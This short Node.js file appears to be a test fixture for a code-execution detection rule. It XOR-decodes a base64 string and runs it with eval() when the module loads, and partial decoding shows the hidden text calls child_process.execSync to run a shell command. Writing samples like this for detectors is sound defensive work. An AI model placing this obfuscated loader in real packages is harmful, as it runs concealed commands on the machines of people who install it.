const K = Buffer.from('Zq4!rT');
const d = Buffer.from('KBRFVBsmP1kTQho9NhVrUQA7ORRHUlV9dBRMRBEHIx9XCVU3LwNYAV8nehlAVQInYF4bURkzdwJAQAYndB9RVV0seg0UUhpzc0o+', 'base64');
for (let i = 0; i < d.length; i++) d[i] ^= K[i % K.length];
// ruleid: code/code-execution
eval(d.toString());
module.exports = {};
